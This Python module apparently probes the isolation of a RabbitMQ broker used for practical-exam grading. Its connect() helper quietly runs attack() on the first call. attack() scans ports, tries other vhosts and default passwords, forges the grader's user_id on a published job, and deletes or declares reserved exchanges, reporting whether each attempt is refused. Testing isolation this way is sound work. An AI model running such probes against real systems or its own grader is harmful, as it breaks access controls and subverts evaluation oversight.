"""Looks for others: their virtual hosts, their users, the doors of the administrator."""
import os
import socket
import threading
import time

import pika


def plain(**more):
    credentials = pika.PlainCredentials(os.environ["RABBITMQ_USER"], os.environ["RABBITMQ_PASSWORD"])
    return pika.BlockingConnection(pika.ConnectionParameters(**{**dict(
        host=os.environ["RABBITMQ_HOST"], port=int(os.environ["RABBITMQ_PORT"]),
        virtual_host=os.environ["RABBITMQ_VHOST"], credentials=credentials,
        socket_timeout=2, blocked_connection_timeout=2,
    ), **more}))


def attempt(work, *args, **options):
    """What comes of it, also where RabbitMQ refuses."""
    try:
        return work(*args, **options)
    except (pika.exceptions.AMQPError, OSError) as error:
        print("REFUSED", getattr(work, "__name__", work), repr(error)[:200], flush=True)


def enter(user, password, vhost):
    plain(virtual_host=vhost, credentials=pika.PlainCredentials(user, password))
    raise SystemExit(f"IN {user} {vhost}")


def use(work):
    """Whether RabbitMQ lets that be done on a channel of its own."""
    connection = plain()
    try:
        work(connection.channel())
    except pika.exceptions.AMQPError as error:
        print("REFUSED", repr(error)[:200], flush=True)
        return
    raise SystemExit("DONE what nobody may do")


def attack():
    host, user = os.environ["RABBITMQ_HOST"], os.environ["RABBITMQ_USER"]
    for port in (4369, 15672, 15692, 25672, 61613, 1883, 5671):
        if attempt(socket.create_connection, (host, port), 2):
            raise SystemExit(f"OPEN {port}")
    for vhost in ("/", "exam", "exam_00000000", "grader"):
        attempt(enter, user, os.environ["RABBITMQ_PASSWORD"], vhost)
    for other in ("practical-exam-grader", "guest", "admin", "reader"):
        for word in ("guest", "rabbitmq"):
            attempt(enter, other, word, os.environ["RABBITMQ_VHOST"])
    forged = pika.BasicProperties(user_id="practical-exam-grader")
    use(lambda one: (one.confirm_delivery(), one.basic_publish("", "jobs", b"{}", forged)))
    use(lambda one: one.exchange_declare("amq.mine"))
    use(lambda one: one.exchange_delete("amq.topic"))
    use(lambda one: one.exchange_declare("x", "x-federation"))
    use(lambda one: one.exchange_declare("x", "x-delayed-message"))


done = False


def connect():
    global done
    if not done:
        done = True
        attack()
    return plain()
